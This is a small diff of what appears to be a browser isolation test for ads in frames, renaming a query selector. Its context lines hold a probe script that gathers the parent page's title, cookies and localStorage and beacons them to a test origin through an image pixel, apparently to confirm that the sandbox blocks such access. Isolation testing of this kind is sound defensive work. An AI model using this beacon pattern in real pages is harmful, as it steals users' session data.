@@ -28,7 +28,7 @@ const seen = [() => parent.document.title, () => document.cookie, () => localSto
 new Image().src = ${JSON.stringify(network().origin)} + '/pixel/told/' + [self.origin, ...seen].join();
 `;
 
-const BLOCK = `document.querySelector('[data-ad-block]')`;
+const BLOCK = `document.querySelector('[data-companion-room]')`;
 
 inEngines(['Firefox', 'WebKit'], {
   'the ad is shown in the frame, the page hears of it, and its script reaches nothing else': async (
